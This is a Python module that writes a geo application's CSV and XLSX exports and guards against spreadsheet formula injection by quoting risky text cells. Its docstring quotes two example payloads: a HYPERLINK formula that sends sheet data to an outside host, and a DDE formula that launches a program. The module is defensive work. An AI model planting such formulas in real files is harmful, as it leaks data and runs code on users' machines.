"""The one CSV/XLSX writer of geoapp: every table a user downloads goes through here, formula-safe.

Officials open exports in Excel or LibreOffice. A text cell that begins with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return is taken as a formula there (OWASP "CSV injection"):
``=HYPERLINK("http://x/?"&A1,"click")`` leaks the sheet, ``=cmd|' /C calc'!A0`` runs a
program (DDE). Every cell goes through :func:`safe_cell` — via :func:`safe_frame` /
:func:`csv_text` / :func:`csv_bytes` for CSV and :func:`append_row` for XLSX — so a note, a
decision number, a unit name or a column name read from a file can never become live.

Trip-wires
----------
* CSV is plain RFC 4180: the header is the first line, nothing above it (no ``# demo`` comment
  line: every CSV reader would take it as the header); the demo flag is a column. UTF-8 with a
  BOM, so Excel reads the Vietnamese text.
* Only *text* is touched. A number stays a number: ``-3.5`` as a float is a value, while the
  string ``"-3.5"`` is text and gets the quote (it may be anything a user typed).
* The neutralised text starts with a single quote ``'``. Excel hides that quote when it is
  typed, but in a file it is kept as a visible character: that is the point (the reader sees
  what was stored, not its evaluation).
* openpyxl turns *any* ``str`` that starts with ``=`` into a formula cell on assignment; write
  cells with :func:`append_row` / :func:`set_cell`, which also force the string type, never
  ``sheet.append`` or ``sheet.cell(value=...)``.
* A map view's table has ONE heading row, in the view's language (:func:`headed`: ``Mã xã``, ``Tên``,
  ``Trạng thái`` … in Vietnamese; English words for ``lang=en``), from the catalogues
  (:func:`geoapp.strings.heading`); its frame keeps the column names until it is written.
* openpyxl refuses control characters (``\\x00``–``\\x1f`` except tab/CR/LF) with an exception;
  :func:`append_row` drops them instead of failing the whole export.
"""
from __future__ import annotations

import io
from typing import Iterable

import pandas as pd

from ..errors import InputError
from ..strings import heading

#: first characters that make a spreadsheet evaluate a text cell (OWASP)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` with a leading ``'`` when it is text that a spreadsheet would evaluate; anything else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names went through :func:`safe_cell`.

    Numeric, boolean and datetime columns are left alone (a negative number is a number); an
    object column may mix numbers and text, so it is mapped cell by cell.
    """
    out = frame.copy()
    for i, dtype in enumerate(out.dtypes):
        if pd.api.types.is_object_dtype(dtype) or pd.api.types.is_string_dtype(dtype) \
                or isinstance(dtype, pd.CategoricalDtype):
            column = out.iloc[:, i]
            if isinstance(dtype, pd.CategoricalDtype):
                column = column.astype(object)
            out.isetitem(i, column.map(safe_cell, na_action="ignore"))
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame, **to_csv) -> str:
    """``frame`` as CSV text (no index unless asked), every cell neutralised; the header is the first line."""
    to_csv.setdefault("index", False)
    return safe_frame(frame).to_csv(**to_csv)


def csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as a CSV file: UTF-8 with a BOM (Excel), header first, every cell neutralised."""
    return csv_text(frame).encode("utf-8-sig")


def xlsx_value(value):
    """What an XLSX cell holds for ``value``: empty for NaN/NA, text neutralised and without control characters."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    if value is None or (isinstance(value, float) and value != value):
        return None                                    # NaN: an empty cell, not the text "nan"
    if value is pd.NA or value is pd.NaT:
        return None
    value = safe_cell(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def append_row(sheet, values) -> None:
    """Append one row to an openpyxl worksheet: text neutralised and stored as a string, never a formula."""
    from openpyxl.cell import Cell

    cells = []
    for value in values:
        cell = Cell(sheet, value=xlsx_value(value))
        if isinstance(cell.value, str):
            cell.data_type = "s"
        cells.append(cell)
    sheet.append(cells)


def set_cell(sheet, row: int, column: int, value) -> None:
    """Write one cell at (row, column) with the rule of :func:`append_row`."""
    cell = sheet.cell(row=row, column=column)
    cell.value = xlsx_value(value)
    if isinstance(cell.value, str):
        cell.data_type = "s"


def append_frame(sheet, frame: pd.DataFrame) -> None:
    """Append ``frame`` (header row first) with :func:`append_row`."""
    append_row(sheet, list(frame.columns))
    for row in frame.itertuples(index=False, name=None):
        append_row(sheet, row)


def workbook(header: Iterable | None = None, title: str = "data"):
    """``(book, sheet)``: a new workbook whose first sheet is called ``title``, with ``header`` as its first row."""
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = title
    if header is not None:
        append_row(sheet, list(header))
    return book, sheet


def add_notes(book, notes: Iterable[str], title: str = "README") -> None:
    """A sheet of one-cell lines (title, sources, the demo mark …) after the data."""
    sheet = book.create_sheet(title)
    for line in notes:
        append_row(sheet, [line])


def workbook_bytes(book) -> bytes:
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def xlsx_bytes(frame: pd.DataFrame, notes: Iterable[str] = ()) -> bytes:
    """``frame`` on a sheet ``data``, and ``notes`` (if any) one per line on a sheet ``README``."""
    book, sheet = workbook()
    append_frame(sheet, frame)
    notes = [n for n in notes if n is not None]
    if notes:
        add_notes(book, notes)
    return workbook_bytes(book)


def headed(frame: pd.DataFrame, lang: str) -> pd.DataFrame:
    """``frame`` with its column names turned into headings in ``lang`` (a name without one stays as is)."""
    return frame.rename(columns={c: heading(c, lang) for c in frame.columns})


def table_bytes(frame: pd.DataFrame, fmt: str, notes: Iterable[str] = (), lang: str | None = None) -> bytes:
    """The CSV or XLSX file of ``frame``; ``notes`` go on the XLSX's README sheet (a CSV has only the table).
    With ``lang`` (a map view's table), the header row is the :func:`headed` one."""
    if lang is not None:
        frame = headed(frame, lang)
    if fmt == "csv":
        return csv_bytes(frame)
    if fmt == "xlsx":
        return xlsx_bytes(frame, notes)
    raise InputError(f"unknown format {fmt!r}; use csv or xlsx",
                     message_vi=f"định dạng không hỗ trợ {fmt!r}; dùng csv hoặc xlsx")
